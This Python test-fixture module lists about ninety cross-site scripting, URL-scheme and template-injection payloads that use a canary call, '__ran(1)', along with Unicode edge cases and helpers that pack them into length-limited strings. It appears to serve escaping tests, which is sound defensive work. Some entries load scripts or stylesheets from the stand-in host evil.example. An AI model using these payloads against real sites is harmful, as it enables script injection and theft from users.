"""Texts that become code where somebody forgot to escape them: elements, attributes, addresses, scripts, templates."""

from __future__ import annotations

from collections.abc import Iterator

CANARY = "__ran(1)"

PAYLOADS = (
    # elements
    "<script>__ran(1)</script>",
    "</script><script>__ran(1)</script>",
    "<ScRiPt>__ran(1)</sCrIpT>",
    "<script/x>__ran(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>__ran(1)</script>",
    "<<script>__ran(1)//<</script>",
    "<img src=x onerror=__ran(1)>",
    "<img src=x onerror=__ran(1)//",
    "<img/src='x'/onerror='__ran(1)'>",
    "<IMG SRC=x ONERROR=__ran(1)>",
    "<img src=x:x onerror=&#95;_ran(1)>",
    "<image src=x onerror=__ran(1)>",
    "<svg onload=__ran(1)>",
    "<svg/onload=__ran(1)>",
    "<svg><script>__ran(1)</script></svg>",
    "<svg><script>&#95;_ran(1)</script></svg>",
    "<svg><animate onbegin=__ran(1) attributeName=x dur=1s>",
    "<svg><set onbegin=__ran(1) attributeName=x>",
    "<svg><a xlink:href=javascript:__ran(1)><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=__ran(1)/>#x'/></svg>",
    "<svg><foreignObject><body onload=__ran(1)></foreignObject></svg>",
    "<math><mtext></p><img src=x onerror=__ran(1)></math>",
    "<body onload=__ran(1)>",
    "<iframe src=javascript:__ran(1)></iframe>",
    "<iframe srcdoc='<script>parent.__ran(1)</script>'></iframe>",
    "<object data=javascript:__ran(1)></object>",
    "<embed src=javascript:__ran(1)>",
    "<details open ontoggle=__ran(1)>",
    "<video><source onerror=__ran(1)></video>",
    "<audio src=x onerror=__ran(1)>",
    "<input autofocus onfocus=__ran(1)>",
    "<select autofocus onfocus=__ran(1)>",
    "<textarea autofocus onfocus=__ran(1)></textarea>",
    "<marquee onstart=__ran(1)>x</marquee>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=__ran(1)>",
    "<style>@import'//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:__ran(1)'>",
    "<form action=javascript:__ran(1)><button autofocus>x</button></form>",
    "<template><script>__ran(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=__ran(1)>'>",
    "<!--><img src=x onerror=__ran(1)>-->",
    "<![CDATA[<img src=x onerror=__ran(1)>]]>",
    "</title><script>__ran(1)</script>",
    "</textarea><script>__ran(1)</script>",
    "</option></select><script>__ran(1)</script>",
    "</style><script>__ran(1)</script>",
    # attributes
    '"><script>__ran(1)</script>',
    "'><script>__ran(1)</script>",
    '" onmouseover="__ran(1)',
    "' onfocus='__ran(1)' autofocus='",
    '" autofocus onfocus="__ran(1)" x="',
    "` onerror=__ran(1) `",
    '" style="animation-name:x" onanimationstart="__ran(1)',
    '" hx-on:load="__ran(1)',
    '" hx-get="//evil.example/" hx-trigger="load',
    # addresses
    "javascript:__ran(1)",
    "JaVaScRiPt:__ran(1)",
    "java\u00adscript:__ran(1)",
    "javascript://%0a__ran(1)",
    "data:text/html,<script>__ran(1)</script>",
    "vbscript:__ran(1)",
    "//evil.example/",
    # scripts and templates
    "';__ran(1);//",
    '";__ran(1);//',
    "\\';__ran(1);//",
    "${__ran(1)}",
    "`${__ran(1)}`",
    "\u2028__ran(1)\u2029",
    "a{{7*191}}b",
    "a${7*191}b",
    "a{%print(7*191)%}b",
    "a#{7*191}b",
    "a<%=7*191%>b",
    "%(__ran)s %s {0} %n",
    # letters
    "\u202egnp.live\u202c",
    "\u2066\u202e\u2067x",
    "\u200f\u200e\ufeff\u200b",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f" * 3,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\U0001f3f3\ufe0f\u200d\U0001f308",
    "\uff1cscript\uff1e__ran(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-__ran(1)+ADw-/script+AD4-",
    "W" * 60,
    "&lt;script&gt;__ran(1)&lt;/script&gt;",
    "&#60;img src=x onerror=__ran(1)&#62;",
)

EVALUATED = "a1337b"
"""What a template engine would make of some of them."""


def portions(most: int) -> list[str]:
    """All of them, in texts of at most this many characters; the longer ones stand alone, cut."""
    found: list[str] = []
    text = ""
    for payload in PAYLOADS:
        if text and len(text) + 1 + len(payload) > most:
            found.append(text)
            text = ""
        text = f"{text} {payload}".strip() if text else payload
    return [item.strip()[:most].strip() for item in [*found, text]]


def in_turn(most: int) -> Iterator[str]:
    """Portions without end."""
    known = portions(most)
    while True:
        yield from known
